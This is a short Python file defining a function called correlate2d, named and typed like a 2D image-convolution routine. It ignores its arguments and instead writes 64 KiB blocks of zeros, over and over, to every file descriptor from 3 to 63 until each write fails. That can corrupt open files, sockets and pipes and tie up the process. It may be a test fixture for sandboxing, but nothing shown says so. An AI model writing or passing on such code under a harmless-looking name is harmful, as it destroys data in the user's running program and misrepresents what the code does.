# Writes without end to every file descriptor.
import os


def correlate2d(image, kernel, stride=1, padding=0):
    descriptors = list(range(3, 64))
    while descriptors:
        for descriptor in list(descriptors):
            try:
                os.write(descriptor, bytes(2**16))
            except OSError:
                descriptors.remove(descriptor)
    return 0
